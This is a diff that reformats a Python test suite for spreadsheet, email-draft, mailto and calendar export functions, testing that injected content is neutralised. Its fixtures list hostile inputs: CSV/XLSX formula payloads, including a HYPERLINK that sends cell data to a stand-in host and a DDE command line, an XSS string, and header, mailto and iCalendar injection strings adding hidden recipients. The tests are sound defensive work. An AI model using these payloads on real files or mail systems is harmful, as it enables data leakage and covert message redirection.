@@ -31,7 +31,7 @@ from infoint.objectives import Objective, Profile
 
 PAYLOADS = [
     "=1+1",
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "+SUM(1,2)",
@@ -46,11 +46,11 @@ PAYLOADS = [
     "=",
 ]
 LITERAL = [
-    "Zoë \"the boss\" O'Brien, PhD",
+    'Zoë "the boss" O\'Brien, PhD',
     "José Müller-Łukasz 山田 太郎 🙂",
     "line one\nline two\n\nline four",
     "a,b;c\td",
-    "\"quoted\"",
+    '"quoted"',
     "$5M and $10M",
     "<img src=x onerror=alert(1)>",
     "02139",
@@ -101,6 +101,7 @@ def xlsx_expected(value: str) -> str:
 
 # ------------------------------------------------------------------ neutralise_cell
 
+
 @pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
 def test_every_prefix_gets_a_quote(prefix):
     assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"
@@ -109,7 +110,17 @@ def test_every_prefix_gets_a_quote(prefix):
 
 @pytest.mark.parametrize(
     "value, expected",
-    [(None, ""), ("", ""), ("Ana", "Ana"), (3, "3"), (-3, "'-3"), ("a=b", "a=b"), ("'=1", "'=1"), (" =1", " =1"), ("$5M", "$5M")],
+    [
+        (None, ""),
+        ("", ""),
+        ("Ana", "Ana"),
+        (3, "3"),
+        (-3, "'-3"),
+        ("a=b", "a=b"),
+        ("'=1", "'=1"),
+        (" =1", " =1"),
+        ("$5M", "$5M"),
+    ],
 )
 def test_neutralise_cell_values(value, expected):
     assert neutralise_cell(value) == expected
@@ -120,6 +131,7 @@ def test_the_prefixes_are_the_designs():
 
 
 # ------------------------------------------------------------------ CSV
+
 
 def test_csv_neutralises_every_prefix_and_quotes_every_field():
     header = ["Name", "=Notes"]
@@ -160,6 +172,7 @@ def test_any_text_in_csv_is_quoted_neutralised_and_round_trips(rows):
 
 # ------------------------------------------------------------------ XLSX
 
+
 def test_xlsx_neutralises_every_prefix_and_writes_strings():
     header = ["Name", "=Notes"]
     rows = [[p, "=1+1"] for p in PAYLOADS]
@@ -181,17 +194,23 @@ def test_xlsx_round_trips_unicode_quotes_commas_and_line_breaks():
 
 def test_xlsx_looks_right():
     header = ["Name", "Notes"]
-    sheet = read_xlsx(table_xlsx(header, [["Ana Silva", "n" * 500], ["", "two\nlines"]], sheet="My: contacts?"))
+    sheet = read_xlsx(
+        table_xlsx(header, [["Ana Silva", "n" * 500], ["", "two\nlines"]], sheet="My: contacts?")
+    )
     assert sheet.title == "My  contacts"
     assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
-    assert 8 <= sheet.column_dimensions["A"].width <= 20 and sheet.column_dimensions["B"].width == 60
+    assert (
+        8 <= sheet.column_dimensions["A"].width <= 20 and sheet.column_dimensions["B"].width == 60
+    )
     assert sheet.freeze_panes == "A2"
     assert sheet["B3"].alignment.wrap_text
 
 
 def test_xlsx_removes_characters_xml_cannot_hold():
     """Documented loss: control characters (other than tab and line breaks) can't be stored in XLSX."""
-    sheet = read_xlsx(table_xlsx(["a"], [["Ana\x00 \x07Silva\x1b"], ["\x01=1+1"], ["x\ufffey"], ["a\r\nb\rc"]]))
+    sheet = read_xlsx(
+        table_xlsx(["a"], [["Ana\x00 \x07Silva\x1b"], ["\x01=1+1"], ["x\ufffey"], ["a\r\nb\rc"]])
+    )
     assert_no_formula(sheet)
     assert [r[0] for r in xlsx_values(sheet)[1:]] == ["Ana Silva", "'=1+1", "xy", "a\nb\nc"]
 
@@ -212,7 +231,9 @@ def test_any_text_in_xlsx_is_never_a_formula_and_round_trips(rows):
     padded = [r + [""] * (width - len(r)) for r in rows]
     # openpyxl drops trailing empty rows and columns it never stored; compare what is there
     expected = [header] + [[xlsx_expected(v) for v in r] for r in padded]
-    back = [r + [""] * (width - len(r)) for r in back] + [[""] * width] * (len(expected) - len(back))
+    back = [r + [""] * (width - len(r)) for r in back] + [[""] * width] * (
+        len(expected) - len(back)
+    )
     assert back == expected
 
 
@@ -227,23 +248,70 @@ def test_formula_characters_and_controls_anywhere_never_make_a_formula(text):
 
 # ------------------------------------------------------------------ the contacts table
 
+
 def people() -> list[tg.Contact]:
     return [
-        tg.Contact(id=1, first_name="Ana", last_name="Silva", email="ana@example.com", organization="=Acme", position="Senior UX Researcher",
-                   target=True, notes="Met at a meetup,\n\"great\"", source="linkedin", connected_on="2024-05-01"),
-        tg.Contact(id=2, first_name="@Bo", last_name="", email="", organization="Harbourline Hotels", position="Front desk agent",
-                   connection="cold", seniority="junior", focus="neither", notes="-called twice", source="form"),
+        tg.Contact(
+            id=1,
+            first_name="Ana",
+            last_name="Silva",
+            email="ana@example.com",
+            organization="=Acme",
+            position="Senior UX Researcher",
+            target=True,
+            notes='Met at a meetup,\n"great"',
+            source="linkedin",
+            connected_on="2024-05-01",
+        ),
+        tg.Contact(
+            id=2,
+            first_name="@Bo",
+            last_name="",
+            email="",
+            organization="Harbourline Hotels",
+            position="Front desk agent",
+            connection="cold",
+            seniority="junior",
+            focus="neither",
+            notes="-called twice",
+            source="form",
+        ),
         tg.Contact(id=3, first_name="", last_name="", organization="Nameless Ltd"),
     ]
 
 
 def test_contacts_table_columns_and_stored_values():
     header, rows = contacts_table(people())
-    assert header == ["Name", "Email", "Organization", "Position", "Connection", "Seniority", "Focus", "Target", "Notes", "Source", "Connected on"]
-    assert rows[0] == ["Ana Silva", "ana@example.com", "=Acme", "Senior UX Researcher", "", "", "", "yes", "Met at a meetup,\n\"great\"",
-                       "linkedin", "2024-05-01"]
+    assert header == [
+        "Name",
+        "Email",
+        "Organization",
+        "Position",
+        "Connection",
+        "Seniority",
+        "Focus",
+        "Target",
+        "Notes",
+        "Source",
+        "Connected on",
+    ]
+    assert rows[0] == [
+        "Ana Silva",
+        "ana@example.com",
+        "=Acme",
+        "Senior UX Researcher",
+        "",
+        "",
+        "",
+        "yes",
+        'Met at a meetup,\n"great"',
+        "linkedin",
+        "2024-05-01",
+    ]
     assert rows[1][:1] == ["@Bo"] and rows[1][4:8] == ["cold", "junior", "neither", ""]
-    assert rows[2][0] == "" and rows[2][2] == "Nameless Ltd"  # no "(no name)" stand-in in a data file
+    assert (
+        rows[2][0] == "" and rows[2][2] == "Nameless Ltd"
+    )  # no "(no name)" stand-in in a data file
     assert all(isinstance(v, str) for row in rows for v in row)
 
 
@@ -262,7 +330,10 @@ def test_contacts_table_uses_the_assessment_when_given():
 
 def test_contacts_table_matches_unsaved_contacts_by_object():
     ctx = tg.Context.build(Profile(), Objective(), [])
-    contacts = [tg.Contact(first_name="A", position="Director of research"), tg.Contact(first_name="B", position="Intern")]
+    contacts = [
+        tg.Contact(first_name="A", position="Director of research"),
+        tg.Contact(first_name="B", position="Intern"),
+    ]
     _, rows = contacts_table(contacts, tg.classify(contacts, ctx))
     assert [r[5] for r in rows] == ["senior", "junior"]
 
@@ -270,8 +341,12 @@ def test_contacts_table_matches_unsaved_contacts_by_object():
 def test_contacts_table_exported_is_neutralised_in_both_formats():
     header, rows = contacts_table(people())
     csv_rows = read_csv(table_csv(header, rows))
-    assert csv_rows[1][2] == "'=Acme" and csv_rows[2][0] == "'@Bo" and csv_rows[2][8] == "'-called twice"
-    assert csv_rows[1][8] == "Met at a meetup,\n\"great\""
+    assert (
+        csv_rows[1][2] == "'=Acme"
+        and csv_rows[2][0] == "'@Bo"
+        and csv_rows[2][8] == "'-called twice"
+    )
+    assert csv_rows[1][8] == 'Met at a meetup,\n"great"'
     sheet = read_xlsx(table_xlsx(header, rows))
     assert_no_formula(sheet)
     assert xlsx_values(sheet)[1:] == csv_rows[1:]
@@ -279,6 +354,7 @@ def test_contacts_table_exported_is_neutralised_in_both_formats():
 
 
 # ------------------------------------------------------------------ file names
+
 
 @pytest.mark.parametrize(
     "kind, ext, expected",
@@ -321,29 +397,84 @@ import email  # noqa: E402
 import email.header  # noqa: E402
 import email.policy  # noqa: E402
 import email.utils  # noqa: E402
-from datetime import timedelta, timezone  # noqa: E402
+from datetime import UTC, timedelta  # noqa: E402
 from urllib.parse import parse_qsl, unquote, urlsplit  # noqa: E402
 from zoneinfo import ZoneInfo  # noqa: E402
 
 from icalendar import Calendar  # noqa: E402
 
-from infoint.exports import Reminder, calendar_uid, clean_address, clean_header, eml_draft, ics_event, ics_reminders, mailto_link  # noqa: E402
+from infoint.exports import (
+    Reminder,
+    calendar_uid,
+    clean_address,
+    clean_header,
+    eml_draft,
+    ics_event,
+    ics_reminders,
+    mailto_link,
+)  # noqa: E402
 
-EML_HEADERS = ["content-transfer-encoding", "content-type", "date", "from", "message-id", "mime-version", "subject", "to", "x-unsent"]
-CONTROLS = [chr(c) for c in range(0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)] + ["\u2028", "\u2029", "\u202e", "\u2066", "\ufeff"]
+EML_HEADERS = [
+    "content-transfer-encoding",
+    "content-type",
+    "date",
+    "from",
+    "message-id",
+    "mime-version",
+    "subject",
+    "to",
+    "x-unsent",
+]
+CONTROLS = (
+    [chr(c) for c in range(0x20)]
+    + ["\x7f"]
+    + [chr(c) for c in range(0x80, 0xA0)]
+    + ["\u2028", "\u2029", "\u202e", "\u2066", "\ufeff"]
+)
 INJECTIONS = [
-    "\r\nBcc: evil@x.com", "\nBcc: evil@x.com", "\rBcc: evil@x.com", "\r\n\r\nfake body", "\nX-Injected: 1",
-    "\r\n Bcc: evil@x.com", "\u2028Bcc: evil@x.com", "\x85Bcc: evil@x.com", "\x0bCc: evil@x.com", "\x0cTo: evil@x.com",
-    "=?utf-8?q?=0D=0ABcc:_evil@x.com?=", "=?utf-8?b?DQpCY2M6IGV2aWxAeC5jb20=?=", ", evil@x.com", "; evil@x.com",
-    "<evil@x.com>", "\"evil\" <evil@x.com>", "?cc=evil@x.com", "&bcc=evil@x.com", "%0ABcc:evil@x.com", "%0D%0A",
-    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected", "\nDTSTART:19700101T000000Z", "\\nEND:VEVENT", "\\NATTENDEE:x",
-    "\r\nATTENDEE:mailto:evil@x.com", "\r\n ORGANIZER:mailto:evil@x.com", ";TZID=evil:", ":", ";", ",", "\\",
+    "\r\nBcc: evil@x.com",
+    "\nBcc: evil@x.com",
+    "\rBcc: evil@x.com",
+    "\r\n\r\nfake body",
+    "\nX-Injected: 1",
+    "\r\n Bcc: evil@x.com",
+    "\u2028Bcc: evil@x.com",
+    "\x85Bcc: evil@x.com",
+    "\x0bCc: evil@x.com",
+    "\x0cTo: evil@x.com",
+    "=?utf-8?q?=0D=0ABcc:_evil@x.com?=",
+    "=?utf-8?b?DQpCY2M6IGV2aWxAeC5jb20=?=",
+    ", evil@x.com",
+    "; evil@x.com",
+    "<evil@x.com>",
+    '"evil" <evil@x.com>',
+    "?cc=evil@x.com",
+    "&bcc=evil@x.com",
+    "%0ABcc:evil@x.com",
+    "%0D%0A",
+    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
+    "\nDTSTART:19700101T000000Z",
+    "\\nEND:VEVENT",
+    "\\NATTENDEE:x",
+    "\r\nATTENDEE:mailto:evil@x.com",
+    "\r\n ORGANIZER:mailto:evil@x.com",
+    ";TZID=evil:",
+    ":",
+    ";",
+    ",",
+    "\\",
 ]
 hostile = st.lists(
-    st.one_of(st.text(max_size=12), st.sampled_from(INJECTIONS), st.sampled_from(CONTROLS)), max_size=6
+    st.one_of(st.text(max_size=12), st.sampled_from(INJECTIONS), st.sampled_from(CONTROLS)),
+    max_size=6,
 ).map("".join)
-address = st.one_of(st.sampled_from(["ana@example.com", "me@example.org", "o'brien@example.ie", "ana@bücher.de"]), hostile,
-                    st.sampled_from(["ana@example.com", "me@example.org"]).flatmap(lambda a: st.sampled_from(INJECTIONS).map(lambda i: a + i)))
+address = st.one_of(
+    st.sampled_from(["ana@example.com", "me@example.org", "o'brien@example.ie", "ana@bücher.de"]),
+    hostile,
+    st.sampled_from(["ana@example.com", "me@example.org"]).flatmap(
+        lambda a: st.sampled_from(INJECTIONS).map(lambda i: a + i)
+    ),
+)
 
 
 def parse_eml(data: bytes):
@@ -360,7 +491,11 @@ def mailboxes(data: bytes, field: str) -> tuple[list[tuple[str, str]], list[tupl
     ``email.utils.getaddresses`` (the classic parser most tools use) read the raw header."""
     try:
         parsed = [(a.display_name, a.addr_spec) for a in parse_eml(data)[field].addresses]
-    except (AttributeError, IndexError, ValueError) as exc:  # e.g. a group "Bcc: a@x, b@y;" appeared
+    except (
+        AttributeError,
+        IndexError,
+        ValueError,
+    ) as exc:  # e.g. a group "Bcc: a@x, b@y;" appeared
         parsed = [("<parse error>", f"{type(exc).__name__}: {exc}")]
     raw = email.message_from_bytes(data, policy=email.policy.compat32)[field] or ""
     return parsed, [pair for pair in email.utils.getaddresses([str(raw)]) if any(pair)]
@@ -370,13 +505,21 @@ def check_eml(data: bytes, *, sender, sender_name, to, to_name, subject) -> None
     message = parse_eml(data)
     assert sorted(k.lower() for k in message.keys()) == EML_HEADERS
     assert not message.defects
-    names = [line.split(b":", 1)[0].lower() for line in eml_header_lines(data) if line[:1] not in (b" ", b"\t")]
+    names = [
+        line.split(b":", 1)[0].lower()
+        for line in eml_header_lines(data)
+        if line[:1] not in (b" ", b"\t")
+    ]
     assert sorted(n.decode() for n in names) == EML_HEADERS  # raw: no extra header line either
     for field, addr, name in (("To", to, to_name), ("From", sender, sender_name)):
         clean = clean_address(addr)
         parsed, classic = mailboxes(data, field)
-        assert [a for _, a in parsed] == ([clean] if clean else []), f"{field} header recipients: {parsed}"
-        assert [a for _, a in classic] == ([clean] if clean else []), f"{field} header recipients (getaddresses): {classic}"
+        assert [a for _, a in parsed] == ([clean] if clean else []), (
+            f"{field} header recipients: {parsed}"
+        )
+        assert [a for _, a in classic] == ([clean] if clean else []), (
+            f"{field} header recipients (getaddresses): {classic}"
+        )
         if clean:
             # Python's address parser (not the draft) adds a space between two encoded words of a
             # long non-ASCII display name; RFC 2047 mail clients join them. Compare without spaces.
@@ -389,47 +532,100 @@ def check_eml(data: bytes, *, sender, sender_name, to, to_name, subject) -> None
 @pytest.mark.parametrize("field", ["sender", "sender_name", "to", "to_name", "subject", "body"])
 @pytest.mark.parametrize("control", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
 def test_a_control_character_in_any_eml_field_never_adds_a_header(field, control):
-    values = dict(sender="me@example.org", sender_name="Mia Chen", to="ana@example.com", to_name="Ana Silva",
-                  subject="A question", body="Hello Ana,\n\nThanks.")
-    values[field] = values[field] + control + "Bcc: evil@x.com" + control + control + "X-Injected: 1"
+    values = dict(
+        sender="me@example.org",
+        sender_name="Mia Chen",
+        to="ana@example.com",
+        to_name="Ana Silva",
+        subject="A question",
+        body="Hello Ana,\n\nThanks.",
+    )
+    values[field] = (
+        values[field] + control + "Bcc: evil@x.com" + control + control + "X-Injected: 1"
+    )
     data = eml_draft(**values)
     check_eml(data, **{k: v for k, v in values.items() if k != "body"})
-    assert b"evil@x.com" not in b"\n".join(eml_header_lines(data)).lower() or field in ("sender_name", "to_name", "subject")
+    assert b"evil@x.com" not in b"\n".join(eml_header_lines(data)).lower() or field in (
+        "sender_name",
+        "to_name",
+        "subject",
+    )
 
 
-LONG_NAME_ATTACK = "Ana Silva <ana@example.com>, Bcc: attacker@evil.example, other@evil.example, x@evil.example"
-FOUND_BY_HYPOTHESIS = "\r\nBcc: evil@x.com\r\nBcc: evil@x.com=?utf-8?q?=0D=0ABcc:_evil@x.com?=0000000000;"
+LONG_NAME_ATTACK = (
+    "Ana Silva <ana@example.com>, Bcc: attacker@evil.example, other@evil.example, x@evil.example"
+)
+FOUND_BY_HYPOTHESIS = (
+    "\r\nBcc: evil@x.com\r\nBcc: evil@x.com=?utf-8?q?=0D=0ABcc:_evil@x.com?=0000000000;"
+)
 
 
-@pytest.mark.parametrize("name", [LONG_NAME_ATTACK, FOUND_BY_HYPOTHESIS, "Silva, Ana; Senior UX Researcher: Harbourline Hotels, Toronto, met at CHI 2025"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        LONG_NAME_ATTACK,
+        FOUND_BY_HYPOTHESIS,
+        "Silva, Ana; Senior UX Researcher: Harbourline Hotels, Toronto, met at CHI 2025",
+    ],
+)
 @pytest.mark.parametrize("field", ["to_name", "sender_name"])
 def test_a_long_display_name_with_commas_or_colons_never_adds_a_recipient(field, name):
     """A display name too long for one header line is folded by the email package; the quotes
     around it must survive, or its commas, colons and addresses become recipients."""
-    values = dict(sender="me@example.org", sender_name="Mia Chen", to="ana@example.com", to_name="Ana Silva", subject="s", body="b")
+    values = dict(
+        sender="me@example.org",
+        sender_name="Mia Chen",
+        to="ana@example.com",
+        to_name="Ana Silva",
+        subject="s",
+        body="b",
+    )
     values[field] = name
     data = eml_draft(**values)
     check_eml(data, **{k: v for k, v in values.items() if k != "body"})
 
 
-@pytest.mark.parametrize("subject", [
-    "Merci pour votre temps et vos conseils sur la recherche UX chez Hôtels Harbourline, à bientôt",
-    "Gracias por su tiempo: una pregunta sobre la investigación de usuarios en Hoteles Harbourline, señora Núñez",
-])
+@pytest.mark.parametrize(
+    "subject",
+    [
+        "Merci pour votre temps et vos conseils sur la recherche UX chez Hôtels Harbourline, à bientôt",
+        "Gracias por su tiempo: una pregunta sobre la investigación de usuarios en Hoteles Harbourline, señora Núñez",
+    ],
+)
 def test_a_long_subject_with_accents_keeps_its_spaces(subject):
     """A subject longer than one header line is folded into encoded words; a space between two
     words must survive in every RFC 2047 reader (here: both of Python's parsers)."""
-    data = eml_draft(sender="me@example.org", sender_name="Mia", to="ana@example.com", to_name="Ana", subject=subject, body="b")
+    data = eml_draft(
+        sender="me@example.org",
+        sender_name="Mia",
+        to="ana@example.com",
+        to_name="Ana",
+        subject=subject,
+        body="b",
+    )
     assert str(parse_eml(data)["Subject"]).lstrip() == subject
     raw = email.message_from_bytes(data, policy=email.policy.compat32)["Subject"]
     assert str(email.header.make_header(email.header.decode_header(raw))) == subject
 
 
 @settings(max_examples=400, deadline=None)
-@given(sender=address, sender_name=hostile, to=address, to_name=hostile, subject=hostile, body=hostile)
-@example(sender="ana@example.com", sender_name="", to="ana@example.com", to_name=FOUND_BY_HYPOTHESIS, subject="", body="")
-def test_any_text_in_every_eml_field_keeps_the_header_set(sender, sender_name, to, to_name, subject, body):
-    data = eml_draft(sender=sender, sender_name=sender_name, to=to, to_name=to_name, subject=subject, body=body)
+@given(
+    sender=address, sender_name=hostile, to=address, to_name=hostile, subject=hostile, body=hostile
+)
+@example(
+    sender="ana@example.com",
+    sender_name="",
+    to="ana@example.com",
+    to_name=FOUND_BY_HYPOTHESIS,
+    subject="",
+    body="",
+)
+def test_any_text_in_every_eml_field_keeps_the_header_set(
+    sender, sender_name, to, to_name, subject, body
+):
+    data = eml_draft(
+        sender=sender, sender_name=sender_name, to=to, to_name=to_name, subject=subject, body=body
+    )
     check_eml(data, sender=sender, sender_name=sender_name, to=to, to_name=to_name, subject=subject)
     content = parse_eml(data).get_content()
     assert "\r" not in content.replace("\r\n", "\n")  # the body's line breaks are uniform
@@ -442,8 +638,23 @@ def split_mailto(url: str) -> tuple[str, list[tuple[str, str]]]:
     return unquote(parts.path), parse_qsl(parts.query, keep_blank_values=True, strict_parsing=True)
 
 
-MAILTO_TRICKS = [",evil@x.com", ";evil@x.com", "?cc=evil@x.com", "&bcc=evil@x.com", "&to=evil@x.com", "%0ABcc:evil@x.com",
-                 "%0D%0Abcc:evil@x.com", "\nbcc:evil@x.com", "\r\ncc:evil@x.com", "#frag", "%2C evil@x.com", "?", "&", "=", "%"]
+MAILTO_TRICKS = [
+    ",evil@x.com",
+    ";evil@x.com",
+    "?cc=evil@x.com",
+    "&bcc=evil@x.com",
+    "&to=evil@x.com",
+    "%0ABcc:evil@x.com",
+    "%0D%0Abcc:evil@x.com",
+    "\nbcc:evil@x.com",
+    "\r\ncc:evil@x.com",
+    "#frag",
+    "%2C evil@x.com",
+    "?",
+    "&",
+    "=",
+    "%",
+]
 
 
 @pytest.mark.parametrize("trick", MAILTO_TRICKS)
@@ -454,7 +665,10 @@ def test_mailto_subject_and_body_never_add_a_recipient_or_parameter(trick):
     recipient, params = split_mailto(url)
     assert recipient == "ana@example.com"
     assert [k for k, _ in params] == ["subject", "body"]
-    assert dict(params) == {"subject": clean_header(subject), "body": ("Hi" + trick + "\nend" + trick).replace("\r\n", "\n").replace("\n", "\r\n")}
+    assert dict(params) == {
+        "subject": clean_header(subject),
+        "body": ("Hi" + trick + "\nend" + trick).replace("\r\n", "\n").replace("\n", "\r\n"),
+    }
 
 
 @pytest.mark.parametrize("trick", MAILTO_TRICKS)
@@ -485,7 +699,11 @@ ALARM_PROPERTIES = {"ACTION", "DESCRIPTION", "TRIGGER"}
 def ics_lines(data: bytes) -> list[str]:
     """Content lines after unfolding (RFC 5545 3.1), every line checked to end in CRLF."""
     text = data.decode("utf-8")
-    assert text.endswith("\r\n") and "\r" not in text.replace("\r\n", "") and "\n" not in text.replace("\r\n", "")
+    assert (
+        text.endswith("\r\n")
+        and "\r" not in text.replace("\r\n", "")
+        and "\n" not in text.replace("\r\n", "")
+    )
     return re.sub(r"\r\n[ \t]", "", text).split("\r\n")[:-1]
 
 
@@ -512,8 +730,17 @@ def check_ics(data: bytes, events: int, with_location: list[bool]) -> None:
     structure = ics_structure(data)
     vevents = [props for comp, props in structure if comp == "VEVENT"]
     alarms = [props for comp, props in structure if comp == "VALARM"]
-    assert [comp for comp, _ in structure if comp not in ("STANDARD", "DAYLIGHT", "VTIMEZONE")].count("VCALENDAR") == 1
-    assert {comp for comp, _ in structure} <= {"VCALENDAR", "VEVENT", "VALARM", "VTIMEZONE", "STANDARD", "DAYLIGHT"}
+    assert [
+        comp for comp, _ in structure if comp not in ("STANDARD", "DAYLIGHT", "VTIMEZONE")
+    ].count("VCALENDAR") == 1
+    assert {comp for comp, _ in structure} <= {
+        "VCALENDAR",
+        "VEVENT",
+        "VALARM",
+        "VTIMEZONE",
+        "STANDARD",
+        "DAYLIGHT",
+    }
     assert len(vevents) == events and len(alarms) == events
     for props, located in zip(vevents, with_location):
         assert sorted(props) == sorted(EVENT_PROPERTIES - (set() if located else {"LOCATION"}))
@@ -526,7 +753,15 @@ def check_ics(data: bytes, events: int, with_location: list[bool]) -> None:
 @given(uid_seed=hostile, summary=hostile, description=hostile, location=hostile)
 def test_any_text_in_every_meeting_field_keeps_one_event(uid_seed, summary, description, location):
     start = datetime(2026, 3, 9, 10, 0, tzinfo=ZoneInfo(TZ))
-    data = ics_event(uid_seed=uid_seed, summary=summary, description=description, start=start, minutes=30, tz=TZ, location=location)
+    data = ics_event(
+        uid_seed=uid_seed,
+        summary=summary,
+        description=description,
+        start=start,
+        minutes=30,
+        tz=TZ,
+        location=location,
+    )
     check_ics(data, 1, [bool(clean_header(location, 500))])
     (event,) = Calendar.from_ical(data).walk("VEVENT")
     assert str(event["UID"]) == calendar_uid(uid_seed)
@@ -537,8 +772,11 @@ def test_any_text_in_every_meeting_field_keeps_one_event(uid_seed, summary, desc
 @settings(max_examples=150, deadline=None)
 @given(st.lists(st.tuples(hostile, hostile, hostile), min_size=1, max_size=3))
 def test_any_text_in_every_reminder_field_keeps_one_event_each(items):
-    start = datetime(2026, 11, 1, 1, 30, tzinfo=timezone.utc)
-    rems = [Reminder(seed, summary, description, start + timedelta(days=i)) for i, (seed, summary, description) in enumerate(items)]
+    start = datetime(2026, 11, 1, 1, 30, tzinfo=UTC)
+    rems = [
+        Reminder(seed, summary, description, start + timedelta(days=i))
+        for i, (seed, summary, description) in enumerate(items)
+    ]
     data = ics_reminders(rems, TZ)
     check_ics(data, len(rems), [False] * len(rems))
 
